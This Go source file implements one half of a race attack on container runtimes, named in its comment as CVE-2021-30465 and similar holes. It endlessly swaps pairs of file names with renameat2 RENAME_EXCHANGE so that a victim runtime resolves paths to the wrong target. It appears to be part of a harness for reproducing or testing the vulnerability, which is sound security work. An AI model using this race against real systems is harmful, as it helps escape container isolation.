package main

import (
	"fmt"

	"golang.org/x/sys/unix"
)

// exchange is one half of the races of CVE-2021-30465 and similar holes: it exchanges pairs of
// names for ever, in a directory through which a victim's runtime resolves paths.
func exchange(names []string) {
	if len(names) == 0 || len(names)%2 != 0 {
		fail(fmt.Errorf("exchange takes pairs of names, not %q", names))
	}
	ready()
	for {
		for i := 0; i < len(names); i += 2 {
			// One of the names may be missing for a while, because a runtime makes and removes
			// it.
			_ = unix.Renameat2(unix.AT_FDCWD, names[i], unix.AT_FDCWD, names[i+1], unix.RENAME_EXCHANGE)
		}
	}
}
